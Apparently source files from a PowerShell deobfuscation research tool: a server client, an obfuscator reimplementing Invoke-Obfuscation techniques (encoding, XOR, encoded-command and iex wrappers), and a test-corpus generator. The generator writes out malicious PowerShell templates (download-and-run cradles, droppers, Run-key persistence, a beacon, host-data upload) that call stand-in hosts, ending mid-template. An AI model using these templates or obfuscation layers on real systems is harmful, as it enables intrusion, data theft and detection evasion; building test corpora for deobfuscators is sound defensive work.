    ::usleep(2000);
  }
  if (rc != 0) {
    int err = errno;
    ::close(fd);
    throw std::runtime_error("cannot connect to '" + socket_path +
                             "': " + std::strerror(err));
  }
  auto impl = std::make_unique<Impl>();
  impl->fd = fd;
  impl->unix_path = socket_path;
  return ServeClient(std::move(impl));
}

ServeClient ServeClient::connect_tcp(std::uint16_t port) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) throw std::runtime_error("socket(AF_INET) failed");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    int err = errno;
    ::close(fd);
    throw std::runtime_error("cannot connect to 127.0.0.1:" +
                             std::to_string(port) + ": " +
                             std::strerror(err));
  }
  auto impl = std::make_unique<Impl>();
  impl->fd = fd;
  impl->tcp_port = port;
  return ServeClient(std::move(impl));
}

ServeClient::ServeClient(std::unique_ptr<Impl> impl) : impl_(std::move(impl)) {}
ServeClient::~ServeClient() = default;
ServeClient::ServeClient(ServeClient&&) noexcept = default;
ServeClient& ServeClient::operator=(ServeClient&&) noexcept = default;

ServeReply ServeClient::call(const Request& request) {
  impl_->send_all(server::render_request_line(request));
  const std::string line = impl_->recv_line();
  ServeReply reply;
  std::string error;
  if (!server::parse_reply_line(line, reply, error)) {
    throw std::runtime_error("malformed server reply: " + error);
  }
  return reply;
}

ServeReply ServeClient::call_retrying(const Request& request, int attempts) {
  if (attempts < 1) attempts = 1;
  std::string last_error;
  for (int attempt = 0; attempt < attempts; ++attempt) {
    if (impl_->fd < 0) {
      // Previous attempt severed the connection; re-dial the same address.
      // A fresh connect lands on whichever fleet worker accepts next.
      try {
        ServeClient fresh = impl_->unix_path.empty()
                                ? connect_tcp(impl_->tcp_port)
                                : connect_unix(impl_->unix_path);
        impl_ = std::move(fresh.impl_);
      } catch (const std::exception& e) {
        last_error = e.what();
        // The listener itself may lag a worker restart by a backoff step.
        ::usleep(50 * 1000);
        continue;
      }
    }
    try {
      return call(request);
    } catch (const std::exception& e) {
      last_error = e.what();
      if (impl_->fd >= 0) ::close(impl_->fd);
      impl_->fd = -1;
      impl_->buf.clear();
    }
  }
  // Every attempt died on transport: answer terminally instead of throwing,
  // so a crashed worker still yields a classified reply.
  ServeReply reply;
  reply.status = std::string(server::kStatusFailed);
  reply.response.id = request.id;
  reply.response.result = request.source;  // deobfuscation is total
  reply.response.ok = false;
  reply.response.failure = FailureKind::WorkerCrash;
  reply.response.failure_detail =
      "connection lost " + std::to_string(attempts) +
      " time(s) serving this request (worker crash?): " + last_error;
  reply.response.report.failure = reply.response.failure;
  reply.response.report.failure_detail = reply.response.failure_detail;
  return reply;
}

bool ServeClient::ready() {
  impl_->send_all(server::render_op_line("ready"));
  const std::string line = impl_->recv_line();
  std::optional<server::JsonValue> doc = server::parse_json(line);
  if (!doc.has_value()) return false;
  const server::JsonValue* ready = doc->find("ready");
  return ready != nullptr && ready->as_bool();
}

bool ServeClient::live() {
  impl_->send_all(server::render_op_line("live"));
  const std::string line = impl_->recv_line();
  std::optional<server::JsonValue> doc = server::parse_json(line);
  if (!doc.has_value()) return false;
  const server::JsonValue* live = doc->find("live");
  return live != nullptr && live->as_bool();
}

std::string ServeClient::metrics() {
  impl_->send_all(server::render_op_line("metrics"));
  const std::string line = impl_->recv_line();
  std::string error;
  std::optional<server::JsonValue> doc = server::parse_json(line, &error);
  if (!doc.has_value()) {
    throw std::runtime_error("malformed metrics reply: " + error);
  }
  const server::JsonValue* metrics = doc->find("metrics");
  if (metrics == nullptr || !metrics->is_string()) {
    throw std::runtime_error("metrics reply has no 'metrics' field");
  }
  return metrics->as_string();
}

MetricsReply ServeClient::metrics_reply(bool fleet_scope) {
  impl_->send_all(
      server::render_op_line("metrics", fleet_scope ? "fleet" : ""));
  const std::string line = impl_->recv_line();
  std::string error;
  std::optional<server::JsonValue> doc = server::parse_json(line, &error);
  if (!doc.has_value()) {
    throw std::runtime_error("malformed metrics reply: " + error);
  }
  const server::JsonValue* metrics = doc->find("metrics");
  if (metrics == nullptr || !metrics->is_string()) {
    throw std::runtime_error("metrics reply has no 'metrics' field");
  }
  MetricsReply reply;
  reply.exposition = metrics->as_string();
  if (const server::JsonValue* v = doc->find("worker"); v != nullptr) {
    reply.worker = static_cast<int>(v->as_double());
  }
  if (const server::JsonValue* v = doc->find("fleet_workers"); v != nullptr) {
    reply.fleet_workers = static_cast<int>(v->as_double());
  }
  return reply;
}

std::string ServeClient::debug_dump() {
  impl_->send_all(server::render_op_line("debug"));
  return impl_->recv_line();
}

std::string ServeClient::trace_json() {
  impl_->send_all(server::render_op_line("trace"));
  const std::string line = impl_->recv_line();
  std::optional<server::JsonValue> doc = server::parse_json(line);
  if (!doc.has_value()) return {};
  const server::JsonValue* trace = doc->find("chrome_trace");
  if (trace == nullptr || !trace->is_string()) return {};
  return trace->as_string();
}

bool ServeClient::ping() {
  impl_->send_all(server::render_op_line("ping"));
  const std::string line = impl_->recv_line();
  std::optional<server::JsonValue> doc = server::parse_json(line);
  if (!doc.has_value()) return false;
  const server::JsonValue* pong = doc->find("pong");
  return pong != nullptr && pong->as_bool();
}

void ServeClient::shutdown_server() {
  impl_->send_all(server::render_op_line("shutdown"));
  (void)impl_->recv_line();  // the ack; the server drains after sending it
}

std::string ServeClient::raw_call(const std::string& line) {
  impl_->send_all(line);
  return impl_->recv_line();
}

}  // namespace ideobf
