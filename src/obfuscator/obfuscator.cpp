#include "obfuscator/obfuscator.h"

#include <algorithm>
#include <cctype>
#include <map>

#include "analysis/randomness.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psast/parser.h"
#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/encodings.h"

namespace ideobf {

using ps::QuoteKind;
using ps::Token;
using ps::TokenType;


namespace {

std::string quote_single(std::string_view content) {
  std::string out = "'";
  for (char c : content) {
    if (c == '\'') out += "''";
    else out.push_back(c);
  }
  out += "'";
  return out;
}

bool word_like(std::string_view s) {
  if (s.empty()) return false;
  for (char c : s) {
    if (!std::isalpha(static_cast<unsigned char>(c)) && c != '-' && c != '.' &&
        c != '_') {
      return false;
    }
  }
  return true;
}

/// Characters that must not directly follow a backtick inside a bareword
/// (they would change meaning as escape sequences).
bool tickable(char c) {
  switch (std::tolower(static_cast<unsigned char>(c))) {
    case 'n': case 't': case 'r': case '0': case 'a': case 'b':
    case 'f': case 'v': case 'e': case 'u':
      return false;
    default:
      return std::isalpha(static_cast<unsigned char>(c)) != 0;
  }
}

}  // namespace

Obfuscator::Obfuscator(std::uint64_t seed) : rng_(seed) {}

std::size_t Obfuscator::rand_index(std::size_t n) {
  return n == 0 ? 0 : static_cast<std::size_t>(rng_() % n);
}

bool Obfuscator::coin(double p) {
  return std::uniform_real_distribution<double>(0.0, 1.0)(rng_) < p;
}

std::string Obfuscator::random_identifier(std::size_t min_len, std::size_t max_len) {
  // Consonant-heavy names fail the paper's vowel statistics on purpose.
  static constexpr std::string_view kChars = "bcdfghjklmnpqrstvwxz";
  const std::size_t len = min_len + rand_index(max_len - min_len + 1);
  std::string out;
  for (std::size_t i = 0; i < len; ++i) {
    char c = kChars[rand_index(kChars.size())];
    if (coin(0.3)) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    out.push_back(c);
  }
  return out;
}

// ------------------------------------------------------------ entry point

std::string Obfuscator::apply(Technique t, std::string_view script) {
  std::string out;
  switch (t) {
    case Technique::Ticking:
    case Technique::Whitespacing:
    case Technique::RandomCase:
    case Technique::Alias:
      out = apply_token_technique(t, script);
      break;
    case Technique::RandomName:
      out = apply_random_name(script);
      break;
    case Technique::WhitespaceEncoding:
      out = apply_whitespace_encoding(script);
      break;
    case Technique::SpecialCharEncoding:
      out = apply_specialchar(script);
      break;
    default:
      out = apply_string_technique(t, script);
      break;
  }
  if (out != script && !ps::is_valid_syntax(out)) return std::string(script);
  return out;
}

// ---------------------------------------------------------- L1 techniques

std::string Obfuscator::apply_token_technique(Technique t, std::string_view script) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  std::string out(script);
  for (auto it = tokens.rbegin(); it != tokens.rend(); ++it) {
    const Token& tok = *it;
    switch (t) {
      case Technique::Ticking: {
        if (tok.type != TokenType::Command && tok.type != TokenType::Member &&
            !(tok.type == TokenType::CommandArgument && word_like(tok.content))) {
          break;
        }
        if (tok.text.size() < 3 || tok.text.find('`') != std::string::npos) break;
        std::string ticked;
        for (std::size_t i = 0; i < tok.text.size(); ++i) {
          if (i > 0 && i + 1 < tok.text.size() && tickable(tok.text[i]) &&
              coin(0.35)) {
            ticked.push_back('`');
          }
          ticked.push_back(tok.text[i]);
        }
        if (ticked != tok.text) out.replace(tok.start, tok.length, ticked);
        break;
      }
      case Technique::RandomCase: {
        const bool eligible =
            tok.type == TokenType::Command || tok.type == TokenType::Keyword ||
            tok.type == TokenType::Member || tok.type == TokenType::Type ||
            tok.type == TokenType::CommandParameter ||
            (tok.type == TokenType::Operator && tok.text.size() > 2 &&
             tok.text[0] == '-') ||
            (tok.type == TokenType::CommandArgument && word_like(tok.content));
        if (!eligible) break;
        std::string flipped(tok.text);
        for (char& c : flipped) {
          if (!std::isalpha(static_cast<unsigned char>(c))) continue;
          c = coin() ? static_cast<char>(std::toupper(static_cast<unsigned char>(c)))
                     : static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
        }
        if (flipped != tok.text) out.replace(tok.start, tok.length, flipped);
        break;
      }
      case Technique::Alias: {
        if (tok.type != TokenType::Command) break;
        if (auto alias = ps::AliasTable::standard().alias_for(tok.content)) {
          out.replace(tok.start, tok.length, *alias);
        }
        break;
      }
      case Technique::Whitespacing: {
        // Widen the gap before this token when one already exists.
        if (tok.start == 0) break;
        const char before = out[tok.start - 1];
        if ((before == ' ' || before == '\t') && coin(0.6)) {
          out.insert(tok.start, std::string(1 + rand_index(5), ' '));
        }
        break;
      }
      default:
        break;
    }
  }
  return out;
}

std::string Obfuscator::apply_random_name(std::string_view script) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  // Collect user variables and function names (same surface the renamer
  // restores).
  std::map<std::string, std::string> mapping;  // lowercase -> random
  bool expect_fn = false;
  std::vector<std::size_t> fn_name_indexes;
  for (std::size_t i = 0; i < tokens.size(); ++i) {
    const Token& t = tokens[i];
    if (t.type == TokenType::Comment || t.type == TokenType::NewLine ||
        t.type == TokenType::LineContinuation) {
      continue;
    }
    if (expect_fn) {
      expect_fn = false;
      fn_name_indexes.push_back(i);
      const std::string lower = ps::to_lower(t.content);
      if (!mapping.count(lower)) mapping[lower] = random_identifier();
      continue;
    }
    if (t.type == TokenType::Keyword &&
        (t.content == "function" || t.content == "filter")) {
      expect_fn = true;
      continue;
    }
    if (t.type == TokenType::Variable &&
        t.content.find(':') == std::string::npos) {
      const std::string lower = ps::to_lower(t.content);
      static const char* kKeep[] = {"_",    "args", "input", "true", "false",
                                    "null", "pshome", "shellid", "matches",
                                    "executioncontext", "env", "psversiontable"};
      bool keep = false;
      for (const char* k : kKeep) {
        if (lower == k) keep = true;
      }
      if (keep) continue;
      if (!mapping.count(lower)) mapping[lower] = random_identifier();
    }
  }
  if (mapping.empty()) return std::string(script);

  std::string out(script);
  for (std::size_t ri = tokens.size(); ri-- > 0;) {
    const Token& t = tokens[ri];
    const bool fn_name =
        std::find(fn_name_indexes.begin(), fn_name_indexes.end(), ri) !=
        fn_name_indexes.end();
    if (t.type == TokenType::Variable &&
        t.content.find(':') == std::string::npos) {
      auto it = mapping.find(ps::to_lower(t.content));
      if (it != mapping.end()) out.replace(t.start, t.length, "$" + it->second);
      continue;
    }
    if (fn_name || t.type == TokenType::Command ||
        t.type == TokenType::CommandArgument) {
      auto it = mapping.find(ps::to_lower(t.content));
      if (it != mapping.end()) out.replace(t.start, t.length, it->second);
    }
  }
  return out;
}

// ----------------------------------------------------- string techniques

std::string Obfuscator::obfuscate_literal(Technique t, std::string_view content) {
  const std::string text(content);
  switch (t) {
    case Technique::Concat: {
      if (text.size() < 2) return quote_single(text);
      const std::size_t parts = std::min<std::size_t>(2 + rand_index(3), text.size());
      std::vector<std::size_t> cuts;
      for (std::size_t i = 1; i < parts; ++i) {
        cuts.push_back(1 + rand_index(text.size() - 1));
      }
      cuts.push_back(0);
      cuts.push_back(text.size());
      std::sort(cuts.begin(), cuts.end());
      cuts.erase(std::unique(cuts.begin(), cuts.end()), cuts.end());
      // Two wild spellings of concatenation: infix '+' chains and
      // [string]::Concat calls.
      const bool use_static = coin(0.25);
      std::string out = use_static ? "([string]::Concat(" : "(";
      for (std::size_t i = 0; i + 1 < cuts.size(); ++i) {
        if (i) out += use_static ? "," : "+";
        out += quote_single(text.substr(cuts[i], cuts[i + 1] - cuts[i]));
      }
      out += use_static ? "))" : ")";
      return out;
    }
    case Technique::Reorder: {
      if (text.size() < 2) return quote_single(text);
      const std::size_t parts = std::min<std::size_t>(2 + rand_index(4), text.size());
      std::vector<std::size_t> cuts = {0, text.size()};
      for (std::size_t i = 1; i < parts; ++i) {
        cuts.push_back(1 + rand_index(text.size() - 1));
      }
      std::sort(cuts.begin(), cuts.end());
      cuts.erase(std::unique(cuts.begin(), cuts.end()), cuts.end());
      std::vector<std::string> chunks;
      for (std::size_t i = 0; i + 1 < cuts.size(); ++i) {
        chunks.push_back(text.substr(cuts[i], cuts[i + 1] - cuts[i]));
      }
      std::vector<std::size_t> order(chunks.size());
      for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
      std::shuffle(order.begin(), order.end(), rng_);
      // order[k] = original index of the k-th stored chunk; the format
      // string must emit placeholders in original order.
      std::vector<std::size_t> position_of(chunks.size());
      for (std::size_t k = 0; k < order.size(); ++k) position_of[order[k]] = k;
      std::string fmt = "\"";
      for (std::size_t i = 0; i < chunks.size(); ++i) {
        fmt += "{" + std::to_string(position_of[i]) + "}";
      }
      fmt += "\"";
      std::string out = "(" + fmt + " -f ";
      for (std::size_t k = 0; k < order.size(); ++k) {
        if (k) out += ",";
        out += quote_single(chunks[order[k]]);
      }
      out += ")";
      return out;
    }
    case Technique::Replace: {
      if (text.empty()) return quote_single(text);
      // Substitute one character with an improbable marker, restored by a
      // literal .Replace call.
      const char target = text[rand_index(text.size())];
      std::string marker;
      do {
        marker = random_identifier(3, 4);
      } while (text.find(marker) != std::string::npos);
      std::string holed;
      for (char c : text) {
        if (c == target) holed += marker;
        else holed.push_back(c);
      }
      std::string target_literal;
      if (target == '\'') {
        target_literal = "[STRiNg][CHar]39";
      } else {
        target_literal = quote_single(std::string(1, target));
      }
      return "(" + quote_single(holed) + ".Replace(" + quote_single(marker) +
             "," + target_literal + "))";
    }
    case Technique::Reverse: {
      std::string reversed(text.rbegin(), text.rend());
      return "(-join " + quote_single(reversed) + "[-1..-" +
             std::to_string(text.size()) + "])";
    }
    case Technique::AsciiEncoding: {
      std::string nums;
      for (unsigned char c : text) {
        if (!nums.empty()) nums += ",";
        nums += std::to_string(static_cast<int>(c));
      }
      return "(-join ((" + nums + ") | ForEach-Object { [char]$_ }))";
    }
    case Technique::HexEncoding:
    case Technique::OctalEncoding:
    case Technique::BinaryEncoding: {
      const int base = t == Technique::HexEncoding ? 16
                        : t == Technique::OctalEncoding ? 8 : 2;
      std::string nums;
      for (unsigned char c : text) {
        if (!nums.empty()) nums += " ";
        nums += ps::convert_to_string_base(static_cast<int>(c), base);
      }
      return "(-join ('" + nums + "' -split ' ' | ForEach-Object { "
             "[char][Convert]::ToInt32($_," + std::to_string(base) + ") }))";
    }
    case Technique::Base64Encoding: {
      const std::string b64 = ps::base64_encode(
          ps::encoding_get_bytes(ps::TextEncoding::Unicode, text));
      return "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(" +
             quote_single(b64) + ")))";
    }
    case Technique::Bxor: {
      const int key = 0x21 + static_cast<int>(rand_index(0x5E));
      std::string nums;
      for (unsigned char c : text) {
        if (!nums.empty()) nums += ",";
        nums += std::to_string(static_cast<int>(c) ^ key);
      }
      return "(-join ('" + nums + "' -split ',' | ForEach-Object { [char]($_ "
             "-bxor 0x" + ps::convert_to_string_base(key, 16) + ") }))";
    }
    case Technique::SpecialCharEncoding: {
      // Listing-4 style: rotating delimiters, split chain, per-char bxor.
      const int key = 0x41 + static_cast<int>(rand_index(0x20));
      static constexpr std::string_view kDelims = "~@}!%|";
      std::string nums;
      for (std::size_t i = 0; i < text.size(); ++i) {
        if (i) nums += kDelims[i % kDelims.size()];
        nums += std::to_string(static_cast<unsigned char>(text[i]) ^ key);
      }
      std::string out = "((" + quote_single(nums);
      for (char d : kDelims) {
        out += std::string(" -split '") + (d == '|' ? "\\|" : std::string(1, d)) +
               "'";
      }
      out += " | ForEach-Object { [char]($_ -bxor '0x" +
             ps::convert_to_string_base(key, 16) + "') }) -join '')";
      return out;
    }
    case Technique::SecureString: {
      ps::ByteVec key(16), iv(16);
      for (auto& b : key) b = static_cast<std::uint8_t>(1 + rand_index(255));
      for (auto& b : iv) b = static_cast<std::uint8_t>(rand_index(256));
      const std::string blob = ps::securestring::protect(text, key, iv);
      std::string key_list;
      for (std::size_t i = 0; i < key.size(); ++i) {
        if (i) key_list += ",";
        key_list += std::to_string(static_cast<int>(key[i]));
      }
      return "([Runtime.InteropServices.Marshal]::PtrToStringAuto("
             "[Runtime.InteropServices.Marshal]::SecureStringToBSTR("
             "(ConvertTo-SecureString " + quote_single(blob) + " -Key (" +
             key_list + ")))))";
    }
    case Technique::Compress: {
      const ps::ByteVec data(text.begin(), text.end());
      const std::string b64 = ps::base64_encode(ps::deflate_compress(data));
      return "((New-Object IO.StreamReader((New-Object "
             "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
             "FromBase64String(" + quote_single(b64) + "), "
             "[IO.Compression.CompressionMode]::Decompress)), "
             "[Text.Encoding]::UTF8)).ReadToEnd())";
    }
    case Technique::WhitespaceEncoding: {
      // Handled at whole-script level; as an expression fall back to Concat.
      return obfuscate_literal(Technique::Concat, content);
    }
    default:
      return quote_single(text);
  }
}

std::string Obfuscator::apply_string_technique(Technique t, std::string_view script) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  // Pick a random subset of the eligible literals (wild samples rarely
  // encode every string with the same technique), always at least one.
  std::vector<const Token*> eligible;
  for (const Token& tok : tokens) {
    const bool plain_single =
        tok.type == TokenType::String && tok.quote == QuoteKind::Single;
    const bool plain_double = tok.type == TokenType::String &&
                              tok.quote == QuoteKind::Double && !tok.expandable;
    if (!plain_single && !plain_double) continue;
    if (tok.content.empty()) continue;
    if (tok.content.find('\n') != std::string::npos) continue;
    eligible.push_back(&tok);
  }
  if (eligible.empty()) return std::string(script);
  std::vector<const Token*> chosen;
  for (const Token* tok : eligible) {
    if (coin(0.75)) chosen.push_back(tok);
  }
  if (chosen.empty()) chosen.push_back(eligible[rand_index(eligible.size())]);

  std::string out(script);
  for (auto it = chosen.rbegin(); it != chosen.rend(); ++it) {
    const Token& tok = **it;
    const std::string expr = obfuscate_literal(t, tok.content);
    out.replace(tok.start, tok.length, expr);
  }
  return out;
}

// ------------------------------------------------- whole-script wrappers

std::string Obfuscator::apply_whitespace_encoding(std::string_view script) {
  // Each character becomes a run of (code - 31) spaces, runs separated by
  // tabs, decoded by a += loop — deliberately beyond variable tracing
  // (Table II's one empty cell for our tool).
  std::string runs;
  for (unsigned char c : std::string(script)) {
    if (c < 32 || c > 126) {
      if (c == '\n') {
        runs += std::string(96, ' ');  // 127 maps back to newline below
        runs += "\t";
        continue;
      }
      continue;  // drop other non-printables
    }
    runs += std::string(static_cast<std::size_t>(c) - 31, ' ');
    runs += "\t";
  }
  if (!runs.empty()) runs.pop_back();
  const std::string var = random_identifier();
  const std::string acc = random_identifier();
  std::string out;
  out += "$" + var + " = " + quote_single(runs) + "\n";
  out += "$" + acc + " = ''\n";
  out += "foreach ($t in $" + var + " -split \"`t\") { if ($t.Length -eq 96) { $" +
         acc + " += \"`n\" } else { $" + acc + " += [char]($t.Length + 31) } }\n";
  out += "iex $" + acc + "\n";
  return out;
}

std::string Obfuscator::apply_specialchar(std::string_view script) {
  const std::string expr =
      obfuscate_literal(Technique::SpecialCharEncoding, script);
  // Invoked via the $env:ComSpec character-picking trick (Listing 4).
  return expr + " | & ($env:ComSpec[4,24,25] -join '')";
}

std::string Obfuscator::obfuscate_member_calls(std::string_view script) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  std::string out(script);
  for (std::size_t ri = tokens.size(); ri-- > 0;) {
    const Token& tok = tokens[ri];
    if (tok.type != TokenType::Member || tok.content.size() < 6) continue;
    // Only rewrite call sites: the member must be followed by '('.
    if (ri + 1 >= tokens.size() || tokens[ri + 1].text != "(") continue;
    const std::string expr = obfuscate_literal(Technique::Concat, tok.content);
    out.replace(tok.start, tok.length, "(" + expr + ")");
  }
  if (out != script && !ps::is_valid_syntax(out)) return std::string(script);
  return out;
}

std::string Obfuscator::wrap_layer(std::string_view script,
                                   Technique string_technique, LayerStyle style) {
  if (style == LayerStyle::EncodedCommand) {
    const std::string b64 = ps::base64_encode(
        ps::encoding_get_bytes(ps::TextEncoding::Unicode, script));
    const char* flags[] = {"-EncodedCommand", "-enc", "-eNc", "-e", "-EnCodEdCom"};
    return std::string("powershell -NoP -NonI ") + flags[rand_index(5)] + " " + b64;
  }
  const std::string expr = obfuscate_literal(string_technique, script);
  if (style == LayerStyle::IexPipe) {
    const char* iex_forms[] = {"IeX", "iex", "Invoke-Expression",
                               "&($env:ComSpec[4,24,25] -join '')"};
    return expr + " | " + iex_forms[rand_index(4)];
  }
  if (coin(0.15)) {
    return "$ExecutionContext.InvokeCommand.InvokeScript(" + expr + ")";
  }
  const char* heads[] = {"iex ", "IEX ", "Invoke-Expression ",
                         ".($PSHome[4]+$PSHome[30]+'x') "};
  return std::string(heads[rand_index(4)]) + expr;
}

}  // namespace ideobf
