#pragma once

/// \file obfuscator.h
/// An Invoke-Obfuscation-equivalent workload generator: every obfuscation
/// technique of the paper's Table II, applied deterministically from a seed.
/// This is the substitute for the attacker tooling behind the wild dataset
/// (DESIGN.md substitution table).

#include <cstdint>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "analysis/techniques.h"

namespace ideobf {

/// Deterministic obfuscation engine. All randomness flows from the seed, so
/// corpora and benchmarks are reproducible.
class Obfuscator {
 public:
  explicit Obfuscator(std::uint64_t seed = 1);

  /// Obfuscates a whole script with one technique. L1 techniques rewrite
  /// tokens; L2/L3 string techniques rewrite eligible string literals;
  /// WhitespaceEncoding and SpecialCharEncoding wrap the whole script in
  /// their decode-and-invoke scaffold. The result is syntax-checked; on
  /// failure the input is returned unchanged.
  std::string apply(Technique t, std::string_view script);

  /// Renders `content` as an obfuscated PowerShell *expression* that
  /// evaluates back to `content` (the building block for L2/L3 techniques).
  std::string obfuscate_literal(Technique t, std::string_view content);

  /// Rewrites instance method calls into dynamic-member form:
  /// `$wc.DownloadString($u)` -> `$wc.('Download'+'String')($u)` — an
  /// Invoke-Obfuscation trick the AST recovery reduces back to a constant
  /// member name.
  std::string obfuscate_member_calls(std::string_view script);

  /// Encodes the whole script as a payload and wraps it in an invocation
  /// layer: `iex (<expr>)`, `<expr> | iex`, or `powershell -enc <b64>`.
  enum class LayerStyle { IexArgument, IexPipe, EncodedCommand };
  std::string wrap_layer(std::string_view script, Technique string_technique,
                         LayerStyle style);

  std::mt19937_64& rng() { return rng_; }

 private:
  std::mt19937_64 rng_;

  std::size_t rand_index(std::size_t n);
  bool coin(double p = 0.5);
  std::string random_identifier(std::size_t min_len = 5, std::size_t max_len = 9);

  std::string apply_token_technique(Technique t, std::string_view script);
  std::string apply_string_technique(Technique t, std::string_view script);
  std::string apply_whitespace_encoding(std::string_view script);
  std::string apply_specialchar(std::string_view script);
  std::string apply_random_name(std::string_view script);
};

}  // namespace ideobf
