#pragma once

/// \file corpus.h
/// Wild-dataset substitute (DESIGN.md substitution table): a seeded
/// generator of realistic malicious-script skeletons with randomized IOCs,
/// obfuscated with randomized technique stacks whose level mix is
/// calibrated to the paper's Table I (L1 98.07%, L2 97.84%, L3 96.08%).

#include <cstdint>
#include <random>
#include <string>
#include <vector>

#include "analysis/keyinfo.h"
#include "analysis/techniques.h"
#include "obfuscator/obfuscator.h"

namespace ideobf {

/// One generated sample: the clean original (ground truth) plus its
/// obfuscated form and the applied technique stack.
struct Sample {
  std::string family;    ///< template name ("downloader", "dropper", ...)
  std::string original;  ///< clean script
  std::string obfuscated;
  std::vector<Technique> techniques;
  int layers = 0;  ///< invocation layers wrapped around the script
  KeyInfo ground_truth;  ///< key info of the clean script
};

struct CorpusOptions {
  double p_l1 = 0.9807;  ///< Table I proportions
  double p_l2 = 0.9784;
  double p_l3 = 0.9608;
  double p_multilayer = 0.12;         ///< 12 of the 100 sampled scripts
  double p_whitespace_encoding = 0.001;  ///< ~0.1% of the wild dataset
  double p_specialchar_wrapper = 0.05;
};

class CorpusGenerator {
 public:
  explicit CorpusGenerator(std::uint64_t seed = 2021,
                           CorpusOptions options = {});

  /// One sample with a randomized family and technique stack.
  Sample generate();

  /// A batch of n samples.
  std::vector<Sample> generate_batch(std::size_t n);

  /// A clean (un-obfuscated) script from a random family.
  std::string random_clean_script();

  /// A sample wrapped in exactly `layers` invocation layers, used by the
  /// Table III multi-layer experiment. `style_mix` picks which layer
  /// mechanisms appear (see bench_table3).
  Sample generate_multilayer(int layers, int style_mix);

  /// Family names available.
  static const std::vector<std::string>& families();

 private:
  std::mt19937_64 rng_;
  CorpusOptions options_;
  Obfuscator obf_;

  bool coin(double p);
  std::size_t idx(std::size_t n);
  std::string host();
  std::string ip();
  std::string path_ps1();
  std::string render_family(const std::string& family);
};

}  // namespace ideobf
