#include "corpus/corpus.h"

#include <algorithm>

#include "psast/parser.h"
#include "psinterp/encodings.h"

namespace ideobf {

using ps::ByteVec;

namespace {

const std::vector<std::string>& kHosts() {
  static const std::vector<std::string> hosts = {
      "cdn-updates.example",  "files-mirror.test",   "static-assets.invalid",
      "pkg-delivery.example", "img-hosting.test",    "api-gateway.invalid",
      "update-server.example", "mail-relay.test",    "login-portal.invalid",
      "download-hub.example",
  };
  return hosts;
}

const std::vector<std::string>& kPaths() {
  static const std::vector<std::string> paths = {
      "stage2", "loader", "update", "payload", "invoice",
      "report",  "setup",  "svc",    "core",    "module",
  };
  return paths;
}

}  // namespace

const std::vector<std::string>& CorpusGenerator::families() {
  static const std::vector<std::string> fams = {
      "downloader", "dropper", "recon", "persistence", "beacon", "oneliner",
      "binary_dropper", "stager", "exfil",
  };
  return fams;
}

CorpusGenerator::CorpusGenerator(std::uint64_t seed, CorpusOptions options)
    : rng_(seed), options_(options), obf_(seed ^ 0x9E3779B97F4A7C15ull) {}

bool CorpusGenerator::coin(double p) {
  return std::uniform_real_distribution<double>(0.0, 1.0)(rng_) < p;
}

std::size_t CorpusGenerator::idx(std::size_t n) {
  return n == 0 ? 0 : static_cast<std::size_t>(rng_() % n);
}

std::string CorpusGenerator::host() { return kHosts()[idx(kHosts().size())]; }

std::string CorpusGenerator::ip() {
  return std::to_string(10 + idx(200)) + "." + std::to_string(idx(255)) + "." +
         std::to_string(idx(255)) + "." + std::to_string(1 + idx(250));
}

std::string CorpusGenerator::path_ps1() {
  return kPaths()[idx(kPaths().size())] + std::to_string(idx(100)) + ".ps1";
}

std::string CorpusGenerator::render_family(const std::string& family) {
  const std::string h = host();
  const std::string addr = ip();
  const std::string file = path_ps1();
  const std::string url = "http://" + h + "/" + file;
  const std::string url2 = "https://" + h + "/" + kPaths()[idx(kPaths().size())] +
                           ".txt";

  if (family == "downloader") {
    return "[Net.ServicePointManager]::SecurityProtocol = "
           "[Net.SecurityProtocolType]::Tls12\n"
           "$url = '" + url + "'\n"
           "$client = New-Object Net.WebClient\n"
           "$payload = $client.DownloadString($url)\n"
           "Invoke-Expression $payload\n";
  }
  if (family == "dropper") {
    return "$dest = Join-Path $env:TEMP '" + file + "'\n"
           "(New-Object Net.WebClient).DownloadFile('" + url + "', $dest)\n"
           "Start-Process powershell -ArgumentList $dest\n";
  }
  if (family == "recon") {
    return "$info = $env:COMPUTERNAME + '|' + $env:USERNAME\n"
           "$client = New-Object Net.WebClient\n"
           "$client.UploadString('http://" + addr + "/collect', $info)\n";
  }
  if (family == "persistence") {
    return "$script = 'C:\\ProgramData\\" + file + "'\n"
           "(New-Object Net.WebClient).DownloadFile('" + url2 + "', $script)\n"
           "New-ItemProperty -Path "
           "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name "
           "'Updater' -Value ('powershell -File ' + $script)\n";
  }
  if (family == "beacon") {
    return "$server = 'http://" + addr + ":8080/task'\n"
           "$count = 0\n"
           "while ($count -lt 3) {\n"
           "    $task = (New-Object Net.WebClient).DownloadString($server)\n"
           "    Invoke-Expression $task\n"
           "    Start-Sleep 5\n"
           "    $count++\n"
           "}\n";
  }
  if (family == "stager") {
    // Stage-to-disk-then-execute: the second stage is written into the
    // (virtual) filesystem and invoked from there.
    return "$stage = Join-Path $env:TEMP '" + file + "'\n"
           "Set-Content $stage ((New-Object Net.WebClient).DownloadString('" +
           url + "'))\n"
           "Invoke-Expression (Get-Content $stage)\n";
  }
  if (family == "exfil") {
    // Collect -> base64 -> upload: the compress/encode chain in reverse.
    return "$blob = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("
